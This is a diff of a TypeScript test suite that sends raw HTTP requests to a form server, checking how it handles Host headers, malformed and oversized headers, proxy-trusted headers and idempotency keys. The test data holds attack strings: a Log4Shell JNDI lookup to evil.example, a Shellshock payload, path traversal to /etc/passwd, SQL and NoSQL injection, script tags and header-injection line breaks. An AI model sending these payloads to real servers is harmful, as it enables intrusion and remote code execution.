@@ -1,113 +1,212 @@
-import type { RawCase } from '../../support/raw-case.ts';
-import { bodyOf, submission, submissionWithHeaders, typeOf } from '../../support/raw-case.ts';
+import { type FormName, formNames, forms } from '@poyanil/domain';
+import {
+  answered,
+  bodyOf,
+  type RawCase,
+  submission,
+  submissionBefore,
+  submissionWithHeaders,
+  typeOf,
+} from '../../support/raw-case.ts';
+import { postText } from '../../support/raw-request.ts';
 
-// Headers: their form and their number.
+// Headers: their form, their number, those that other servers believe, and the key of a submission.
 
 const body = bodyOf('contact');
 const content = [typeOf('contact'), `Content-Length: ${body.length}`];
 const withHost = (...hosts: string[]) =>
   submissionWithHeaders('contact', [...hosts, ...content, 'Connection: close']);
+const withLines = (...lines: string[]) => submission('contact', lines);
 
-const malformed = (name: string, line: string): RawCase => ({
-  name,
-  sent: submission('contact', [line]),
-  answers: ['malformed-request'],
-});
-const ignored = (name: string, ...lines: string[]): RawCase => ({
-  name,
-  sent: submission('contact', lines),
-  answers: [202],
-});
-
-export const hostCases: RawCase[] = [
-  { name: 'no host', sent: withHost(), answers: ['malformed-request'] },
-  {
-    name: 'two hosts',
-    sent: withHost('Host: a', 'Host: evil.example'),
-    answers: ['malformed-request'],
-  },
-  {
-    name: 'one host said twice',
-    sent: withHost('Host: a', 'host: a'),
-    answers: ['malformed-request'],
-  },
-  { name: 'a folded host', sent: withHost('Host: a\r\n b'), answers: ['malformed-request'] },
-  { name: 'a host after a blank', sent: withHost(' Host: a'), answers: ['malformed-request'] },
-  ...[
-    'evil.example',
-    'evil.example:99999',
-    'a@evil.example',
-    'evil.example/x?y#z',
-    '<script>alert(1)</script>',
-    '[::1',
-    '169.254.169.254',
-    'a'.repeat(4_000),
-    '',
-  ].map(
-    (host): RawCase => ({
-      name: `the host ${JSON.stringify(host.slice(0, 40))}, which decides nothing`,
-      sent: withHost(`Host: ${host}`),
-      answers: [202],
-    }),
-  ),
+const otherHosts = [
+  'evil.example',
+  'evil.example:99999',
+  'a@evil.example',
+  'evil.example/x?y#z',
+  '<script>alert(1)</script>',
+  '[::1',
+  '169.254.169.254',
+  'a'.repeat(4_000),
+  '',
 ];
 
-export const formCases: RawCase[] = [
-  malformed('a folded header', 'X: a\r\n b'),
-  malformed('a header folded by a tab', 'X: a\r\n\tb'),
-  malformed('a header without a colon', 'X'),
-  malformed('a header without a name', ': a'),
-  malformed('a blank in the name of a header', 'X Y: a'),
-  malformed('a blank before the colon', 'X : a'),
-  malformed('a zero byte in a name', 'X\0Y: a'),
-  malformed('a zero byte in a value', 'X: a\0b'),
-  malformed('a carriage return in a value', 'X: a\rY: b'),
-  malformed('a line feed in a value', 'X: a\nContent-Length: 0'),
-  malformed('an escape character in a value', 'X: a\x1b[2Jb'),
-  malformed('a delete character in a value', 'X: a\x7fb'),
-  malformed('a bracket in a name', 'X(a): b'),
-  malformed('a name beyond ASCII', 'X\xe9: b'),
-  ignored('bytes beyond ASCII in a value', 'X: \xff\xfe\xe9'),
-  ignored('a value without an end of quotes', 'X: "a'),
-  ignored('an empty value', 'X:'),
-  ignored('the names of what every object has', '__proto__: a', 'constructor: b', 'toString: c'),
+const hosts: RawCase[] = [
+  ...answered(['malformed-request'], {
+    'no host': withHost(),
+    'two hosts': withHost('Host: a', 'Host: evil.example'),
+    'one host said twice': withHost('Host: a', 'host: a'),
+    'a folded host': withHost('Host: a\r\n b'),
+    'a host after a blank': withHost(' Host: a'),
+  }),
+  ...otherHosts.map((host): RawCase => {
+    const name = `the host ${JSON.stringify(host.slice(0, 40))}, which decides nothing`;
+    return { name, sent: withHost(`Host: ${host}`), answers: [202] };
+  }),
 ];
 
-export const numberCases: RawCase[] = [
-  // Four stand in each submission.
-  ignored(
-    'as many headers as may be',
-    ...Array.from({ length: 95 }, (_, index) => `X-${index}: 1`),
-  ),
-  ...[97, 200, 1_000, 1_990].map(
-    (count): RawCase => ({
-      name: `${count} more headers`,
-      sent: submission('contact', Array(count).fill('a: 1')),
-      answers: ['headers-too-large'],
-    }),
-  ),
-  ...[2_500, 20_000].map(
-    (count): RawCase => ({
-      name: `${count} more headers, of which not all are read`,
-      sent: submission('contact', Array(count).fill('a:')),
-      answers: ['headers-too-large'],
-    }),
-  ),
-  ...[17_000, 200_000].map(
-    (size): RawCase => ({
-      name: `a header of ${size} bytes`,
-      sent: submission('contact', [`X: ${'a'.repeat(size)}`]),
-      answers: ['headers-too-large'],
-    }),
-  ),
-  {
-    name: 'a name of 17 KB',
-    sent: submission('contact', [`${'a'.repeat(17_000)}: 1`]),
-    answers: ['headers-too-large'],
-  },
-  {
-    name: 'ten cookies of 4 KB',
-    sent: submission('contact', Array(10).fill(`Cookie: a=${'a'.repeat(4_000)}`)),
-    answers: ['headers-too-large'],
-  },
+const form: RawCase[] = [
+  ...answered(['malformed-request'], {
+    'a folded header': withLines('X: a\r\n b'),
+    'a header folded by a tab': withLines('X: a\r\n\tb'),
+    'a header without a colon': withLines('X'),
+    'a header without a name': withLines(': a'),
+    'a blank in the name of a header': withLines('X Y: a'),
+    'a blank before the colon': withLines('X : a'),
+    'a zero byte in a name': withLines('X\0Y: a'),
+    'a zero byte in a value': withLines('X: a\0b'),
+    'a carriage return in a value': withLines('X: a\rY: b'),
+    'a line feed in a value': withLines('X: a\nContent-Length: 0'),
+    'an escape character in a value': withLines('X: a\x1b[2Jb'),
+    'a delete character in a value': withLines('X: a\x7fb'),
+    'a bracket in a name': withLines('X(a): b'),
+    'a name beyond ASCII': withLines('X\xe9: b'),
+  }),
+  ...answered([202], {
+    'bytes beyond ASCII in a value': withLines('X: \xff\xfe\xe9'),
+    'a value without an end of quotes': withLines('X: "a'),
+    'an empty value': withLines('X:'),
+    'names that every object has': withLines('__proto__: a', 'constructor: b', 'toString: c'),
+  }),
 ];
+
+const times = (count: number, line: string) => withLines(...Array<string>(count).fill(line));
+
+const numbers: RawCase[] = [
+  ...answered([202], {
+    // Four stand in each submission.
+    'as many as may be': withLines(...Array.from({ length: 95 }, (_, index) => `X-${index}: 1`)),
+  }),
+  ...answered(['headers-too-large'], {
+    '97 more': times(97, 'a: 1'),
+    '200 more': times(200, 'a: 1'),
+    '1,000 more': times(1_000, 'a: 1'),
+    '1,990 more': times(1_990, 'a: 1'),
+    '2,500 more, of which not all are read': times(2_500, 'a:'),
+    '20,000 more, of which not all are read': times(20_000, 'a:'),
+    'one of 17 KB': withLines(`X: ${'a'.repeat(17_000)}`),
+    'one of 200 KB': withLines(`X: ${'a'.repeat(200_000)}`),
+    'a name of 17 KB': withLines(`${'a'.repeat(17_000)}: 1`),
+    'ten cookies of 4 KB': times(10, `Cookie: a=${'a'.repeat(4_000)}`),
+  }),
+];
+
+const CONTACT = forms.contact.path;
+const asks = withLines('Expect: 100-continue');
+
+const believed: RawCase[] = [
+  ...answered([202], {
+    'another host for a proxy': withLines(
+      'X-Forwarded-Host: evil.example',
+      'X-Host: evil.example',
+      'Forwarded: host=evil.example;for=6.6.6.6',
+    ),
+    'an address of a proxy': withLines(
+      'X-Forwarded-For: 6.6.6.6, 127.0.0.1',
+      'X-Real-IP: 6.6.6.6',
+      'True-Client-IP: 6.6.6.6',
+      'Client-IP: 6.6.6.6',
+    ),
+    'addresses that are none': withLines(
+      "X-Forwarded-For: ' OR 1=1 --, <script>, ::ffff:1.2.3.4%eth0, ,,",
+    ),
+    'another scheme and port': withLines(
+      'X-Forwarded-Proto: https',
+      'X-Forwarded-Port: 0',
+      'Front-End-Https: on',
+    ),
+    'another prefix': withLines('X-Forwarded-Prefix: //evil.example', 'X-Script-Name: /evil'),
+    'another method': withLines('X-HTTP-Method-Override: DELETE', 'X-Method: PUT'),
+    'a proxy for outgoing requests': withLines('Proxy: http://evil.example:80'),
+    credentials: withLines('Authorization: Basic YWRtaW46YWRtaW4=', 'Cookie: admin=1'),
+    'a part of the answer': withLines('Range: bytes=0-0', 'If-Range: "a"'),
+    conditions: withLines(
+      'If-None-Match: *',
+      'If-Modified-Since: Thu, 01 Jan 2099 00:00:00 GMT',
+      'If-Match: "x"',
+    ),
+    'an answer of another type': withLines(
+      'Accept: application/xml',
+      'Accept-Encoding: br;q=9, *;q=0',
+      'Accept-Charset: utf-7',
+    ),
+    'a file name that template engines look up': withLines(
+      'Accept-Language: ../../../../etc/passwd%00',
+    ),
+    'text for a log that looks up addresses': withLines(
+      `User-Agent: \${jndi:ldap://evil.example/a}`,
+      'Referer: () { :; }; id',
+    ),
+    'a wish for trailers': withLines(
+      'TE: trailers, chunked;q=9',
+      'Max-Forwards: 0',
+      'Via: 1.1 evil.example',
+    ),
+    'an expectation that nobody meets': withLines('Expect: the-moon'),
+    'who asks before sending, twice': withLines('Expect: 100-continue', 'Expect: 100-continue'),
+    'who asks in HTTP/1.0, which knows no such answer': asks.replace('HTTP/1.1', 'HTTP/1.0'),
+  }),
+  ...answered(['not-found'], {
+    'another address that some servers take instead': postText(
+      '/api/v1/nothing',
+      [...content, `X-Original-URL: ${CONTACT}`, `X-Rewrite-URL: ${CONTACT}`],
+      body,
+    ),
+  }),
+  ...answered([100, 202], { 'who asks before sending': asks }),
+  ...answered(['content-too-large'], {
+    'who asks before sending too much': postText(CONTACT, [
+      typeOf('contact'),
+      'Content-Length: 99999999',
+      'Expect: 100-continue',
+    ]),
+  }),
+  ...answered([202, 202], {
+    'a connection that is to be kept for ever':
+      submissionBefore('contact', ['Keep-Alive: timeout=99999, max=99999']) + withLines(),
+  }),
+];
+
+const badKeys = ['', ' ', '   \t ', 'x'.repeat(256), 'x'.repeat(10_000), 'cl\xe9', '\xe0\xb4\x85'];
+const goodKeys = [
+  ...'0 00000000000000000000000000000001 a:b a:b:c 0:1 "quoted" __proto__ ../../outbox'.split(' '),
+  'a b',
+  'a, b',
+  "'; DROP TABLE submissions; --",
+  '{"$gt":""}',
+  '*',
+  '%00%0d%0a',
+  'x'.repeat(255),
+];
+
+function keysOf(each: FormName): RawCase[] {
+  const keyed = (key: string, ...more: string[]) =>
+    submission(each, [`Idempotency-Key: ${key}`, ...more]);
+  const refused = [...badKeys, 'a\tb', '\xa0'].map((key): [string, string] => [
+    `${each}: ${JSON.stringify(key.slice(0, 20))}… of ${key.length}`,
+    keyed(key),
+  ]);
+  return [
+    ...answered(['invalid-idempotency-key'], {
+      ...Object.fromEntries(refused),
+      [`${each}: two`]: keyed('a', 'Idempotency-Key: b'),
+      [`${each}: one said twice`]: keyed('a', 'IDEMPOTENCY-KEY: a'),
+    }),
+    ...['a\0b', 'a\rb', 'a\nb', 'a\r\n b'].map((key): RawCase => {
+      const name = `${each}: ${JSON.stringify(key)}, which is no header`;
+      return { name, sent: keyed(key), answers: ['malformed-request'] };
+    }),
+    ...goodKeys.map((key): RawCase => {
+      const name = `${each}: ${JSON.stringify(key.slice(0, 40))}, and once more`;
+      const before = keyed(key).replace('Connection: close\r\n', '');
+      return { name, sent: before + keyed(key), answers: [202, 202], kept: 1 };
+    }),
+  ];
+}
+
+export const headerCases = {
+  hosts,
+  'the form of headers': form,
+  'the number of headers': numbers,
+  'headers that others believe': believed,
+  keys: formNames.flatMap(keysOf),
+};
